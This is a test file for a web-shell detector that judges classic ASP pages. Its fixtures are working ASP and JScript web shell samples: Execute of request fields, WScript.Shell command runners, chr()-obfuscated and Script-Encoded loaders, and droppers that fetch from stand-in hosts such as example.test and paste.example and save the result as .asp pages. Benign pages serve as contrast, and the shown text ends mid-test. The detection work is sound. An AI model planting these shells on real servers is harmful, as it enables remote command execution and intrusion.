/**
 * Classic ASP's idioms (issue 27): request("x") handed to Execute/Eval, to WScript.Shell, or
 * as the name of a file FileSystemObject or ADODB.Stream writes; names folded from chr()
 * pieces; pages hidden by the Script Encoder (VBScript.Encode) decoded first. The encoded
 * samples are made here, by the inverse of the decoder's table, from text written here.
 */
import { describe, expect, it } from 'vitest';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { classicAspShell, foldVbStrings } from '../../src/findings/web-shell/classic-asp.js';
import { decodeEncodedScripts } from '../../src/findings/web-shell/script-encoded.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const judge = (path: string, text: string) =>
  judgeWebShell(addedFile(path, text, { current: fileMeta({ sizeBytes: text.length }) }), false);

/** The Script Encoder's output for `plain`, found by decoding every candidate (test only). */
function encode(plain: string): string {
  let data = '';
  for (const c of plain) {
    if (c === '\n' || c > '\x7f') {
      // A line end is escaped; a character past ASCII is left as it is.
      data += c === '\n' ? '@&' : c;
      continue;
    }
    // The character that decodes to `c` at this position: try each printable candidate.
    const probe = (x: string) => decodeEncodedScripts(`#@~^AAAAAA==${data}${x}AAAAAA==^#~@`);
    const want = decodeEncodedScripts(`#@~^AAAAAA==${data}AAAAAA==^#~@`) + c;
    const found = [9, ...Array.from({ length: 96 }, (_, i) => 32 + i)]
      .map((code) => String.fromCharCode(code))
      .find((x) => !'<>@'.includes(x) && probe(x) === want);
    if (found === undefined) throw new Error(`no encoding for ${JSON.stringify(c)}`);
    data += found;
  }
  return `#@~^AAAAAA==${data}AAAAAA==^#~@`;
}

describe('classic ASP', () => {
  it.each([
    ['Eval of a request field through a variable', '<%\ndim x\nx = request("h")\neval x\n%>'],
    [
      'a sub of its own starting the command line it is given, called with the request',
      '<%\nsub t(s)\n dim o: set o = server.createobject("wscript.shell")\n response.write o.exec(s).stdout.readall\nend sub\nt "cmd /c " & request.querystring("q")\n%>',
    ],
    [
      'an object of the class the request names',
      '<%\na = Request("a")\nb = Split(a, "|")\nSet o = CreateObject(b(0))\no.Run b(1), 0, True\n%>',
    ],
    ['ExecuteGlobal of a reversed field', '<% a=request(chr(97)) ExecuteGlobal(StrReverse(a)) %>'],
    [
      'Execute of a session filled from the request',
      '<%if request("k")<>""then session("k")=request("k"):end if:if session("k")<>"" then execute session("k")%>',
    ],
    [
      'a ScriptControl fed a statement spelt with chr()',
      '<% Set o = Server.CreateObject("MSScriptControl.ScriptControl")\no.ExecuteStatement("ev"&chr(97)&"l(req"&chr(117)&"est(""p""))") %>',
    ],
    [
      'WScript.Shell running a form field',
      '<% Set sh = Server.CreateObject("WScript.Shell")\nSet e = sh.Exec("cmd /c " & Request.Form("c"))\nResponse.Write e.StdOut.ReadAll %>',
    ],
    [
      'FileSystemObject writing the file the visitor names',
      '<% p = Request.Form("path")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(p, True)\nf.Write Request.Form("body") %>',
    ],
    [
      'ADODB.Stream saving an upload where the visitor says',
      '<% Set s = Server.CreateObject("ADODB.Stream")\ns.Type = 1: s.Open: s.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Server.MapPath(Request.QueryString("f")), 2 %>',
    ],
    [
      'Execute of code the page decodes with a function of its own',
      '<%Execute(DeAsc("%119%136%115")):Function DeAsc(Str):Str=Split(Str,"%"):For I=1 To Ubound(Str):DeAsc=DeAsc&Chr(Str(I)-18):Next:End Function%>',
    ],
    ['Execute of an unescaped string', '<%execute(unescape("eval%20request%28%22a%22%29"))%>'],
    [
      'the request written into a page it names',
      '<% if request("t")<>"" then\nbody=request("t")\nset fso=Server.CreateObject("Scripting.FileSystemObject")\nset f=fso.CreateTextFile(Server.MapPath("up1oad.asp"))\nf.Write(body)\nend if %>',
    ],
    [
      'a database console opening the connection string the visitor gives',
      '<% cs = Trim(Request.Form("DBString"))\nSet Conn = Server.CreateObject("ADODB.Connection")\nConn.Open(cs)\nSet rs = Conn.Execute("select name from sysobjects") %>',
    ],
    [
      'a database console running the statement the visitor types, passed on through two names',
      '<% Sql_content = Trim(Request("Sql_content"))\nSQL = Sql_content\nset conn = Server.CreateObject("adodb.connection")\nconn.open "driver={SQL Server};Server=" & Request("ip") & ";uid=sa"\nconn.execute SQL %>',
    ],
    [
      "a database console keeping the visitor's connection string in the session",
      '<% if request("key") = "db" then\n  session("dbstr") = request("dbstr")\nend if\nset conn1 = Server.CreateObject("ADODB.Connection")\nconn1.open session("dbstr") %>',
    ],
    [
      'FileSystemObject writing a page named by a field, as .asp',
      '<% n = Request("n")\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fso.CreateTextFile(Server.MapPath("up/" & n & ".asp"))\nf.Write Request("b") %>',
    ],
    [
      'Execute of code assembled from chr() pieces kept in names',
      '<%\nDim a, r, k, s\na = Chr(101) & Chr(118) & Chr(97) & Chr(108)\nr = Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116)\nk = "pass"\ns = a & "(" & r & "(""" & k & """))"\nExecute(s)\n%>',
    ],
    [
      'a function of its own that evaluates its argument, called with a field',
      '<%Function xxxx(str) eval str End Function%><%D = request("ant")%><%xxxx D%>',
    ],
    [
      'Execute of a field in a server script element',
      '<html><script language="VBScript" runat="server">\nExecute Request("c")\n</script></html>',
    ],
    [
      'Execute of code joined from "e!v!a!l$request$x" by Split and Join',
      '<%\nf = "e!v!a!l$request$p!a!s!s" \' config\nparts = Split(f, "$")\na = Join(Split(parts(0), "!"), "")\nk = Join(Split(parts(2), "!"), "")\ns = a & "(" & parts(1) & "(""" & k & """))"\nExecute(s)\n%>',
    ],
    [
      'Execute of code spelt as an array of character codes, joined in a loop',
      '<%\ncodes = Array(101, 118, 97, 108, 40, 114, 101, 113, 117, 101, 115, 116, 40, 34, 120, 34, 41, 41)\ns = ""\nFor i = 0 To UBound(codes)\n  s = s & Chr(codes(i))\nNext\nExecute(s)\n%>',
    ],
    [
      'Execute of a template whose placeholders are replaced step by step',
      '<%\nt = "ACTION TARGET(PARAM)"\nt = Replace(t, "ACTION", StrReverse("etucexE"))\nt = Replace(t, "TARGET", StrReverse("tseuqer"))\nt = Replace(t, "PARAM", """" & "x" & """")\ncmd = t\nExecute(cmd)\n%>',
    ],
    [
      'a file browser sending any file and listing any folder the visitor names',
      '<% Set fso = Server.CreateObject("Scripting.FileSystemObject")\nfilepath = trim(Request.QueryString("file"))\nIf fso.FileExists(filepath) Then\n  Set file = fso.GetFile(filepath)\n  Set stream = Server.CreateObject("ADODB.Stream")\n  stream.Open\n  stream.LoadFromFile(file.Path)\n  Response.BinaryWrite(stream.Read)\nEnd If\npath = trim(Request.QueryString("path"))\nSet folder = fso.GetFolder(path)\nFor Each f In folder.Files\n  Response.Write f.Name\nNext %>',
    ],
    [
      'Execute of code a function of its own decodes, kept in the session first',
      '<% k="!rq)x(tseuqer lave"\nif session("k")="" then:session("k")=mkc(k):end if:k=session("k"):execute k:function mkc(b):for i=1 to len(b):mkc=mid(b,i,1)&mkc:next:end function %>',
    ],
    [
      'Execute on the line after a comment that ends a sentence',
      '<%\nv = Request("k")\n\' applies the formatting rule.\nExecute(fmt(v))\n%>',
    ],
    [
      'Execute of code whose name is set twice, one of its texts running the request',
      '<% a = "ev" & "al"\nr = "reque" & "st"\nIf x Then r = "Respo" & "nse.Write"\nExecute a & "(" & r & "(""x""))"\nid = Request("id") %>',
    ],
    [
      'Execute of a dictionary entry filled from the session the request filled',
      '<%\nk = "payload"\nd = Request.Form("p")\nSession(k) = d\nSet dict = CreateObject("Scripting.Dictionary")\ndict.Add k, Session(k)\nExecute(dict(k))\n%>',
    ],
    [
      'ExecuteGlobal of code kept in a string that reads a name filled from the request',
      '<%\nv = request("p")\nc = "Ex" & "ecute" & "(v)"\nExecuteGlobal(c)\n%>',
    ],
    [
      'Execute of what a decoder of its own gives for a carried string edited in place',
      '<%\nc = "k#BJc&E(K>;Qmf"\nc = Replace(c, "~", Chr(37) & ">")\ncode = Decrypt(c, "TNT")\nSession("x") = code\nexecute(Session("x"))\nFunction Decrypt(s, k)\nDecrypt = StrReverse(s)\nEnd Function\n%>',
    ],
    [
      'a page saving what it downloads from a URL as a server page',
      '<%\nSet x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET","http://example.test/shell.txt",0\nx.Send()\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open()\ns.Write(x.responseBody)\ns.SaveToFile "D:\\site\\html\\shell.asp",2\n%>',
    ],
  ])('calls %s a web shell', (_, text) => {
    expect(judge('/opt/x.asp', text)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/classic ASP/),
    });
  });

  it.each([
    [
      'a page reading a form field and writing a log of its own name',
      '<% n = Request.Form("name")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.OpenTextFile(Server.MapPath("log.txt"), 8, True)\nf.WriteLine n %>',
    ],
    ['a page evaluating a constant', '<% x = Request("id")\nResponse.Write Eval("1 + 2") %>'],
    [
      'a sub of its own starting the command line it is given, called with a constant',
      '<%\nsub t(s)\n dim o: set o = server.createobject("wscript.shell")\n response.write o.exec(s).stdout.readall\nend sub\nt "ipconfig /all"\nn = request.querystring("q")\nresponse.write server.htmlencode(n)\n%>',
    ],
    [
      'a page echoing a field and saving a text log',
      '<% n = Request("n")\nResponse.Write(n)\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(Server.MapPath("visits.txt"))\nf.Write(n) %>',
    ],
    [
      'a page running a fixed program',
      '<% Set sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c cleanup.bat", 0\nResponse.Write Request("id") %>',
    ],
    [
      'a page running SQL built from a field (ADODB, not VBScript)',
      '<% id = Request("id")\nSet rs = Conn.Execute("select * from news where id=" & id)\nconn.execute "update hits set n=n+1 where id=" & Request.QueryString("id") %>',
    ],
    [
      'a page opening its own database and a recordset of SQL built from a field',
      '<% Set conn = Server.CreateObject("ADODB.Connection")\nconn.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("data.mdb")\nSet rs = Server.CreateObject("ADODB.Recordset")\nrs.Open "select * from news where id=" & Request("id"), conn, 1, 1 %>',
    ],
    [
      'a page exporting to an Access file the visitor names',
      '<% out = trim(request.form("OutMdb"))\nSet c = Server.CreateObject("ADODB.Connection")\ncs = "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath(out)\nc.Open cs %>',
    ],
    [
      "a page whose browser script calls eval on a date (client-side, not the server's)",
      '<% id = Request("id") %>\n<script language="javascript">\nfunction d(dt) { return eval(dt.getMonth() + 1); }\nvar id = "<%= id %>"; eval(id);\n</script>',
    ],
    [
      'a JScript page reading the request and calling eval() on a date of its own',
      '<%@language="JavaScript"%><%\nvar ip = Request.ServerVariables("REMOTE_ADDR");\nfunction d(dt) { return eval(dt.getMonth() + 1); }\nResponse.Write(ip + d(new Date()));\n%>',
    ],
    [
      'a page writing an ad script named by a field into its own folder, as .js',
      '<% js = Request("id")\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nset op = fso.opentextfile(server.mappath("../ad/" & js & ".js"), 2, true)\nop.write "document.write(1)" %>',
    ],
    [
      'a page caching a news page under a name built from a field',
      '<% id = Request("id")\nHtmlFileName = Server.MapPath("html/news_" & id & ".html")\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet fout = fso.CreateTextFile(HtmlFileName)\nfout.Write "<p>news</p>" %>',
    ],
    [
      'a page running code it assembles from names of its own, with no request in it',
      '<% action = Request("a")\nprefix = "Call Show"\ncode = prefix & "List()"\nExecute(code)\nExecute("Call " & "Page" & "Header()") %>',
    ],
    [
      'a dictionary holding a field and code of its own, running its own',
      '<% Set d = CreateObject("Scripting.Dictionary")\nd.Add "t", Request("t")\nd.Add "code", "Call Header()"\nExecute(d("code"))\nResponse.Write Server.HTMLEncode(d("t")) %>',
    ],
    [
      'a function that runs its own parameter, named like a global filled from the request',
      '<% s = Request("s")\nFunction GetSetting(s)\n  Execute("x=" & s)\n  GetSetting = x\nEnd Function\nv = GetSetting("ZC_NAME") %>',
    ],
    [
      'code assembled from a string whose text is a name filled from the request',
      '<% s = Request("s")\nExecute("s" & plugname & "=s" & plugname & "&""|""") %>',
    ],
    [
      'a page running code through a name set twice, neither text reading the request',
      '<% a = "Call " & "Show"\nr = "List"\nIf x Then r = "Grid"\nExecute a & r & "()"\nid = Request("id") %>',
    ],
    [
      'a page filling a template of its own step by step and running it',
      '<% id = Request("id")\nt = "Call SHOW(NUM)"\nt = Replace(t, "SHOW", "ShowNews")\nt = Replace(t, "NUM", "0")\nExecute(t) %>',
    ],
    [
      'a download page sending a file by name from a folder of its own, and listing that folder',
      '<% Set fso = Server.CreateObject("Scripting.FileSystemObject")\nname = Replace(Request("f"), "..", "")\nSet stream = Server.CreateObject("ADODB.Stream")\nstream.Open\nstream.LoadFromFile(Server.MapPath("files/" & name))\nResponse.BinaryWrite(stream.Read)\nSet folder = fso.GetFolder(Server.MapPath("files"))\nFor Each f In folder.Files\n  Response.Write f.Name\nNext %>',
    ],
    [
      'a template engine running the code it compiles from a template',
      '<% s = LoadFile(Server.MapPath("tpl/index.html"))\ns = s & vbCrLf & "Response.Write 1"\ntpl = Parse(s)\nExecute(tpl)\nid = Request("id")\nFunction Parse(t)\nParse = Replace(t, "{$", "")\nEnd Function %>',
    ],
    [
      'a page running code of its own while a function of its own formats a name',
      '<% title = FormatTitle(Request("t"))\nhook = "Call PageHeader()"\nExecute hook\nResponse.Write title\nFunction FormatTitle(s)\nFormatTitle = Server.HTMLEncode(s)\nEnd Function %>',
    ],
    [
      'a page calling a stored procedure with EXECUTE in its SQL text',
      '<% id = Request.QueryString("id")\nstrSQL = "EXECUTE LadderMatchDetails @ID = \'" & id & "\'"\nSet rs = conn.Execute(strSQL) %>',
    ],
    [
      'a sub of its own that executes its argument, called with code of its own',
      '<% Sub RunHook(ByVal code)\nExecute code\nEnd Sub\nid = Request("id")\nRunHook "Call Header()"\nRunHook("Call Footer(" & 1 & ")") %>',
    ],
    [
      'a page searching a field with a regular expression',
      '<% Set re = New RegExp\nre.Pattern = "\\d+"\nSet m = re.Execute(Request.Form("q"))\nResponse.Write m.Count %>',
    ],
    [
      'a template engine executing what it parses from a template file, edited in place',
      '<%\nid = Request("id")\nt = LoadFile("tpl/page.htm")\nt = Replace(t, "{", "<")\ncode = Parse(t)\nExecute code\nFunction Parse(s)\nParse = s\nEnd Function\n%>',
    ],
    [
      'an installer saving the files its release list names, and its list',
      '<%\nSet x = Server.CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", "http://update.example.test/Release.xml", False\nx.Send\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1: s.Open: s.Write x.responseBody\ns.SaveToFile Server.MapPath(".") & "\\" & "Release.xml", 2\nFor Each item In list\ns.SaveToFile Server.MapPath(".") & "\\" & item.getAttributeNode("name").Value, 2\nNext\n%>',
    ],
  ])('does not call %s a web shell', (_, text) => {
    expect(judge('/opt/y.asp', text)?.severity ?? 'none').not.toMatch(/high|critical/);
  });

  it('folds strings joined from chr() pieces, and nothing else', () => {
    expect(foldVbStrings('x = "ex"&chr(101)&"cute" & y')).toBe(
      'x = "exdecute" & y'.replace('d', ''),
    );
    expect(foldVbStrings('x = "a" & Chr(&H22) & "b"')).toBe('x = "a""b"');
    expect(foldVbStrings('x = "one" & y & "two"')).toBe('x = "one" & y & "two"');
  });

  it('decodes a VBScript.Encode page and judges what IIS will run', () => {
    const code = 'ExecuteGlobal request("pass")\n';
    const page = `<%@ LANGUAGE = "VBScript.Encode" %>\n<%${encode(code)}%>`;
    expect(decodeEncodedScripts(page)).toBe(`<%@ LANGUAGE = "VBScript.Encode" %>\n<%${code}%>`);
    expect(judge('/opt/e.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/Script Encoder/),
    });
  });

  it('decodes a page of many small encoded blocks to its last', () => {
    // Each value the page shows is a block of its own; the shell's is the sixtieth.
    const shown = Array.from({ length: 59 }, (_, i) => `<td><%=${encode(`title(${i})`)}%></td>`);
    const code =
      'Set s = Server.CreateObject("WScript.Shell")\nResponse.Write s.Exec(Request("c")).StdOut.ReadAll\n';
    const page = `<%@ LANGUAGE = "VBScript.Encode" %>\n${shown.join('\n')}\n<%${encode(code)}%>`;
    expect(decodeEncodedScripts(page)).toContain(code);
    expect(judge('/opt/many.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/Script Encoder/),
    });
  });

  it('decodes a page written in a double-byte code page, and one in a single-byte page', () => {
    // GBK's 0x81 0x41 is one character to the encoder: its ASCII-range trail byte is not
    // encoded and moves no alphabet. Read byte by byte, everything after it is scrambled.
    const before = 't = "';
    const after = '"\nExecuteGlobal request("pass")\n';
    const data = encode(before + after).slice(12, -12);
    const wide = `#@~^AAAAAA==${data.slice(0, before.length)}\x81A${data.slice(before.length)}AAAAAA==^#~@`;
    const page = `<%@ LANGUAGE = "VBScript.Encode" %>\n<%${wide}%>`;
    expect(decodeEncodedScripts(page)).toContain(`${before}\x81A${after}`);
    expect(judge('/opt/gbk.asp', page)?.severity).toBe('critical');
    // In a Western page the same bytes are two characters, `é` and a letter, both encoded.
    const western = 'Response.Write "caf\xe9s"\nExecuteGlobal request("pass")\n';
    expect(decodeEncodedScripts(encode(western))).toBe(western);
  });

  it("reads PHP's code in a page marked or named as ASP as PHP", () => {
    const shell = "<?php $f = $_GET['f']; $f($_POST['c']); ?>";
    // PHP runs a .php page whatever directive it holds; an .asp page's PHP runs where the
    // server hands it to PHP.
    expect(judge('/var/www/html/x.php', `<%@ language=vbscript %>${shell}`)?.severity).toBe(
      'critical',
    );
    expect(judge('/var/www/html/x.asp', shell)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/its PHP code, in a page named or marked as ASP/),
    });
  });

  it('works out assembled code in bounded time: names set to many names, deep nesting', () => {
    // Each name set four times to an expression of 39 names (an assignment's 200 characters),
    // four names deep, the last set to an empty string: every name resolves, and stays short.
    const name = (level: number, k: number) => `${'abcd'[level]}${k}`;
    const names = (level: number) =>
      Array.from({ length: 39 }, (_, i) => name(level + 1, i % 4)).join(' & ');
    const lines = [0, 1, 2, 3].flatMap((level) =>
      [0, 1, 2, 3].flatMap((k) =>
        [0, 1, 2, 3].map(() => `${name(level, k)} = ${level === 3 ? '""' : names(level)}`),
      ),
    );
    const wide = `<%\n${lines.join('\n')}\nExecute(a0)\nv = Request("k") %>`;
    const deep = `<% s = ${'('.repeat(1500)}"a"${')'.repeat(1500)}\nExecute(s) %>`;
    // Unbounded, the wide page reads 156^3 terms (25 s here). The timeout guards against a
    // run without end; it is no speed goal: bounded, this takes milliseconds.
    for (const text of [wide, deep])
      expect(judge('/opt/x.asp', text)?.severity).not.toBe('critical');
  }, 10_000);

  it('decodes hostile blocks in bounded time: cut, empty, many', () => {
    expect(decodeEncodedScripts('#@~^')).toBe('');
    expect(decodeEncodedScripts('a#@~^AAAAAA==@')).toBe('a@');
    const many = '#@~^AAAAAA==xAAAAAA==^#~@'.repeat(5000);
    expect(decodeEncodedScripts(many).length).toBeLessThan(many.length);
    // The timeout guards against a run without end; it is no speed goal (bench/fuzz-rules.ts
    // measures speed): bounded, this takes milliseconds.
  }, 10_000);
});

describe('classic ASP code kept in the session or a dictionary', () => {
  const judge = (text: string) => classicAspShell(foldVbStrings(text));
  // Godzilla's ASP variants: the first request stores the decoded payload in the session
  // under a key the page computes; later ones run it through a dictionary.
  const shell = `<%
Set d = Server.CreateObject("Scripting.Dictionary")
Dim k(1)
k(0) = "pass": k(1) = "payload"
data = Request.Form(k(0))
If IsEmpty(Session(Join(Array("pay","load"),""))) Then
  Session(Join(Array("pay","load"),"")) = Decode(data)
Else
  d.Add k(1), Session(Join(Array("pay","load"),""))
  Execute(d.Item(k(1)))
End If
%>`;

  it('calls running what the request stored under a computed key a web shell', () => {
    expect(judge(shell)).toMatch(/running what the request stored in the session or a dictionary/);
    // Code the page assembles to read the dictionary back, by the constant its key holds.
    const assembled = `<%
Set d = Server.CreateObject("Scripting.Dictionary")
p = "payload"
data = Request.Form("pass")
Session(p) = Decode(data)
d.Add p, Session(p)
code = Chr(69) & "xecute(d(""" & p & """))"
Eval(code)
%>`;
    expect(judge(assembled)).toMatch(/running/);
  });

  it('leaves a page that keeps the visitor in the session and runs its own code alone', () => {
    const page = `<%
Session(SitePrefix & "user") = Request.Form("user")
handler = "ShowHome"
If Request("page") = "news" Then handler = "ShowNews"
Execute("Call " & handler & "()")
%>`;
    expect(judge(page)).toBeUndefined();
  });
});

describe('classic ASP JScript running code it decodes', () => {
  it('follows a function running its first argument, called on a decoder of a literal', () => {
    const page = `<script runat="server" language="JScript">
function exs(str) { var a = "uns" + "afe"; var b = eval(str, a); return b; }
function dec(s, key) { var out = ""; for (var k = 0; k < s.length; k += 2) out += String.fromCharCode(parseInt(s.substr(k, 2), 16) - 1); return out; }
</script>
<% exs(exs(dec("556675766874782F4C75696E", "1314"))); %>`;
    expect(classicAspShell(page)).toMatch(/decodes itself \(through exs, of dec/);
  });

  it('follows eval held in an object key or a name, called on unescape() of a carried string', () => {
    const keyed = `<script runat="server" language="javascript">
var Fla = {'E': eval};
var St = "H52H65H73H70H6FH6EH73H65";
Fla.E(unescape(St.replace(/H/g, "%")) + '');
</script>`;
    const named = `<script runat="server" language="javascript">
var e = eval;
var r = Replace("a", "b");
e(unescape("%52%65%73%70%6F%6E%73%65"));
</script>`;
    expect(classicAspShell(keyed)).toMatch(/decodes itself \(eval of unescape/);
    expect(classicAspShell(named)).toMatch(/decodes itself \(eval of unescape/);
  });

  it('leaves a function evaluating JSON it reads, and a call merely ending in the alias, alone', () => {
    const page = `<script runat="server" language="JScript">
function parse(s) { return eval("(" + s + ")"); }
var e = eval;
var cfg = parse(readSettings());
var t = Replace(cfg.title, "<", "&lt;");
</script>`;
    expect(classicAspShell(page)).toBeUndefined();
  });

  it("takes an object's own eval method for code run only when the page makes a ScriptControl", () => {
    // A JSON library's eval (Z-Blog's YT plugin), handed a form field to parse.
    const json = `<%@ LANGUAGE="JScript" %><%
var nodes = YT.eval(Request.Form("node")).join(",");
Response.Write(nodes);
%>`;
    expect(classicAspShell(json)).toBeUndefined();
    const control = `<%
Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
sc.Language = "VBScript"
Response.Write sc.Eval(Request.Form("x"))
%>`;
    expect(classicAspShell(control)).toMatch(/request as code/);
    expect(classicAspShell('<% Response.Write Eval(Request.Form("x")) %>')).toMatch(
      /request as code/,
    );
  });
});

describe('classic ASP code spelt out from character codes', () => {
  it('calls running a name grown a Chr() at a time a web shell', () => {
    const page = `<%
codes = Array(69,120,101,99,117,116,101,32,114,101,113,117,101,115,116,40,34,120,34,41)
For i = 0 To UBound(codes)
  t = codes(i) * 2 / 2
  built = built & Chr(t)
Next
final = built
Execute(final)
%>`;
    expect(classicAspShell(foldVbStrings(page))).toMatch(/spells out from character codes/);
  });

  it('leaves a password made of Chr() codes, written out and never run, alone', () => {
    const page = `<%
Randomize
For i = 1 To 12
  pwd = pwd & Chr(Int(Rnd * 26) + 65)
Next
Execute("Call Audit(""reset"")")
Response.Write pwd & Request.QueryString("user")
%>`;
    expect(classicAspShell(foldVbStrings(page))).toBeUndefined();
  });
});

describe('XSLT script blocks', () => {
  it('calls a transform whose msxsl:script starts a shell a web shell, and a plain transform not', () => {
    const shell = `<%
set xmldoc = Server.CreateObject("MSXML2.DOMDocument")
xmldoc.loadxml("<?xml version=""1.0""?><root>cmd /c dir</root>")
set xsl = Server.CreateObject("MSXML2.DOMDocument")
xsl.loadxml("<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:z=""z""><msxsl:script language=""JScript"" implements-prefix=""z""> function x(c) { var a = new ActiveXObject('wscript.shell'); return a.Exec(c).StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>")
response.write xmldoc.TransformNode(xsl)
%>`;
    const plain = `<%
set xsl = Server.CreateObject("MSXML2.DOMDocument")
xsl.load(Server.MapPath("news.xsl"))
set xml = Server.CreateObject("MSXML2.DOMDocument")
xml.load(Server.MapPath("news.xml"))
response.write xml.TransformNode(xsl)
%>`;
    expect(judge('/inetpub/wwwroot/x.asp', shell)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/XSLT script block/),
    });
    expect(judge('/inetpub/wwwroot/news.asp', plain)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });
});

describe('classic ASP: code through a Sub, the session, or the Request object held', () => {
  it('follows the request through a Sub that runs its argument, on one line or after End Sub', () => {
    for (const page of [
      '<%Sub r(x): Execute x: End Sub: r Request("q")%>',
      '<%\nSub r(x)\n  Execute x\nEnd Sub\nr Request("q")\n%>',
    ])
      expect(judge('/inetpub/wwwroot/x.asp', page)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/through r, a function of its own that runs its argument/),
      });
    const logger =
      '<%\nSub log(x)\n  Response.Write Server.HTMLEncode(x)\nEnd Sub\nlog Request("q")\n%>';
    expect(judge('/inetpub/wwwroot/x.asp', logger)).toBeUndefined();
  });

  it('ranks code kept in the session and run critical, and a session value shown not', () => {
    expect(judge('/inetpub/wwwroot/x.asp', '<%eval session("x")%>')).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/code kept in the session or the application \(eval\)/),
    });
    const shown = '<%u = Session("user"): If u <> "" Then Response.Write Server.HTMLEncode(u)%>';
    expect(judge('/inetpub/wwwroot/x.asp', shown)).toBeUndefined();
  });

  it('reads the Request object held in a name as the request', () => {
    expect(judge('/inetpub/wwwroot/x.asp', '<%Set x = Request: eval x("c")%>')).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/running the request as code/),
    });
    const held = '<%Set x = Request: Response.Write Server.HTMLEncode(x("name"))%>';
    expect(judge('/inetpub/wwwroot/x.asp', held)).toBeUndefined();
  });
});

describe('classic ASP: file browsers and downloaded code', () => {
  // A page that only sends a file, or only lists a folder, the visitor names is left to the
  // rules above: applications' own file managers do either (docs/detection.md).
  it('does not alarm on a download page serving files from its own folder', () => {
    const page = `<%
Set s = CreateObject("ADODB.Stream"): s.Open: s.Type = 1
s.LoadFromFile Server.MapPath("files/" & Replace(Request("f"), "..", ""))
Set fs = CreateObject("Scripting.FileSystemObject")
For Each x In fs.GetFolder(Server.MapPath("files")).Files: Response.Write x.Name: Next
Response.BinaryWrite s.Read
%>`;
    expect(judge('/inetpub/wwwroot/download.asp', page)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });

  it('ranks a page running what it fetches over HTTP critical', () => {
    const page = `<%
Set x = CreateObject("Microsoft.XMLHTTP")
x.open "GET", "http://paste.example/raw/a1", False
x.send
code = x.responseText
Execute code
%>`;
    expect(judge('/inetpub/wwwroot/x.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/running code it downloads/),
    });
  });
});

describe('classic ASP: the URLs and paths the visitor names whole', () => {
  it("ranks a proxy fetching the visitor's URL and sending it back critical", () => {
    const page = `<%Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
x.Open "GET", Request("url"), False
x.Send
Response.BinaryWrite x.responseBody%>`;
    expect(judge('/inetpub/wwwroot/p.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/a proxy into the server's network/),
    });
  });

  it('leaves a page fetching a URL of its own, or of its own site, with request values appended alone', () => {
    // A payment notice checked with the payment service (an order page of a Chinese shop).
    const notify = `<%
u = "http://notify.alipay.com/trade/notify_query.do?"
u = u & "partner=" & partner & "&notify_id=" & request("notify_id")
Set x = Server.CreateObject("Msxml2.ServerXMLHTTP.3.0")
x.open "GET", u, False
x.send
Response.Write x.ResponseText%>`;
    expect(judge('/inetpub/wwwroot/notify.asp', notify)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
    // A page of the site fetched to make a static copy, by the server's own name.
    const own = `<%Set h = Server.CreateObject("Microsoft.XMLHTTP")
h.open "GET", "http://" & request.ServerVariables("SERVER_NAME") & "/class.asp?id=" & id, False
h.send
Response.Write h.responseText%>`;
    expect(judge('/inetpub/wwwroot/make.asp', own)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });

  it('leaves a page calling its own service with a choice the request makes alone', () => {
    const page = `<%Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
x.Open "POST", g_strRpcURL & IIf(Request("remove") <> "", "remove", "add"), False
x.Send body
Response.Write x.responseText%>`;
    expect(judge('/inetpub/wwwroot/push.asp', page)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });

  it("ranks a page saving what the visitor's URL returns as a server page critical", () => {
    const page = `<%Set xml = Server.CreateObject("MSXML2.ServerXMLHTTP")
xml.Open "GET", Request("u"), False
xml.Send
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath("x.asp"))
f.Write xml.responseText
f.Close%>`;
    expect(judge('/inetpub/wwwroot/d.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/as a server page \(a dropper\)/),
    });
  });

  it('ranks a file manager listing and deleting any path the visitor names critical', () => {
    const page = `<%
Set fso = CreateObject("Scripting.FileSystemObject")
Set fld = fso.GetFolder(Request("p"))
For Each f In fld.Files
Response.Write f.Name & " " & f.Size & "<br>"
Next
If Request("del") <> "" Then fso.DeleteFile Request("del")
%>`;
    expect(judge('/inetpub/wwwroot/fm.asp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/lists any folder and deletes or moves any file/),
    });
  });

  it("ranks a page opening the visitor's folders through Shell.Application critical", () => {
